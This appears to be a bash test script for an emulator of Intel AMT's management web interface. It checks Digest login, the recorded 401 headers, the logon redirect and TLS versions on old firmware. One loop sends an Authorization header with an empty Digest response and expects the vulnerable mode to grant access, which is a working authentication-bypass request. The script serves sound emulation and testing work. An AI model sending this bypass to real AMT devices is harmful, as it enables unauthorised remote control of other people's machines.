#!/usr/bin/env bash
# curl against the emulator: Digest with the right password works in both
# modes, a wrong one gets 401; the 401 header block and challenge string are
# byte-identical to the recording (docs/protocol.md §2.2, §2.3), realm and
# nonce masked; TLS 1.0-only on old firmware.
source "$(dirname "$0")/emulate_lib.sh"
need curl
VULN=$(random_addr); PATCHED=$(random_addr)
start_emu vuln --listen "$VULN" --firmware 8.1.40 --mode vulnerable --admin-password 'Adm1n!pw'
start_emu patched --listen "$PATCHED" --firmware 8.1.71.3608 --mode patched --admin-password 'Adm1n!pw'

for host in "$VULN" "$PATCHED"; do
  code=$(curl -s -o "$WORK/page" -w '%{http_code}' --digest -u 'admin:Adm1n!pw' "http://$host:16992/index.htm")
  [ "$code" = 200 ] || fail "right password on $host gave $code"
  grep -q "System Status" "$WORK/page" || fail "no System Status on $host"
  code=$(curl -s -o /dev/null -w '%{http_code}' --digest -u 'admin:wrong' "http://$host:16992/index.htm")
  [ "$code" = 401 ] || fail "wrong password on $host gave $code"
  code=$(curl -sk -o /dev/null -w '%{http_code}' --digest -u 'admin:Adm1n!pw' "https://$host:16993/hw-sys.htm")
  [ "$code" = 200 ] || fail "TLS right password on $host gave $code"
done

# The recorded 401 (AMT 8.1.40), CRLF line ends, realm/nonce masked.
curl -s -i "http://$VULN:16992/index.htm" > "$WORK/401"
python3 - "$WORK/401" > "$WORK/401.head" <<'PY'
import re, sys
data = open(sys.argv[1], 'rb').read()
head, _, body = data.partition(b'\r\n\r\n')
head = re.sub(rb'Digest:[0-9A-F]{32}', b'Digest:REALM', head)
head = re.sub(rb'nonce="[A-Za-z0-9+/]{32}"', b'nonce="NONCE"', head)
sys.stdout.buffer.write(head)
open(sys.argv[1] + '.body', 'wb').write(body)
PY
printf 'HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Digest realm="Digest:REALM", nonce="NONCE",stale="false",qop="auth"\r\nContent-Type: text/html\r\nServer: Intel(R) Active Management Technology 8.1.40\r\nContent-Length: 689\r\nConnection: close' > "$WORK/401.expected"
cmp "$WORK/401.head" "$WORK/401.expected" || { diff <(cat -A "$WORK/401.head") <(cat -A "$WORK/401.expected"); fail "401 header block differs"; }
body_len=$(wc -c < "$WORK/401.body")
[ "$body_len" = 689 ] || fail "401 body is $body_len bytes, want 689"

# Manual bypass (the form in §4): empty response accepted only when vulnerable.
for host in "$VULN" "$PATCHED"; do
  hdr=$(curl -s -D - -o /dev/null "http://$host:16992/index.htm" | tr -d '\r' | grep WWW-Authenticate)
  realm=$(sed -E 's/.*realm="([^"]+)".*/\1/' <<<"$hdr"); nonce=$(sed -E 's/.*nonce="([^"]+)".*/\1/' <<<"$hdr")
  code=$(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Digest username=\"admin\", realm=\"$realm\", nonce=\"$nonce\", uri=\"/index.htm\", response=\"\", qop=auth, nc=00000001, cnonce=\"x\"" "http://$host:16992/index.htm")
  want=401; [ "$host" = "$VULN" ] && want=200
  [ "$code" = "$want" ] || fail "bypass on $host gave $code, want $want"
done

# GET / → 303 to /logon.htm, logon page unauthenticated.
curl -s -i "http://$VULN:16992/" | tr -d '\r' | grep -qx 'Location: /logon.htm' || fail "no 303 Location"
[ "$(curl -s -o /dev/null -w '%{http_code}' "http://$VULN:16992/logon.htm")" = 200 ] || fail "logon.htm not 200"

# TLS: 8.x speaks TLS 1.0/1.1 only. Without openssl this is not checked, and
# the test reports a skip, not a pass (scripts/setup.sh installs openssl).
if ! command -v openssl >/dev/null; then
  not_checked "TLS 1.0-only on 8.x firmware (openssl not installed)"
else
  echo | openssl s_client -connect "$VULN:16993" -tls1 -cipher 'AES128-SHA:@SECLEVEL=0' 2>/dev/null | grep -qE 'Protocol +: TLSv1$' ||
    fail "no TLS 1.0 on old firmware"
  if echo | openssl s_client -connect "$VULN:16993" -tls1_2 2>/dev/null | grep -q 'New, TLSv1.2, Cipher is [A-Z]'; then
    fail "TLS 1.2 accepted on 8.x firmware"
  fi
fi
pass
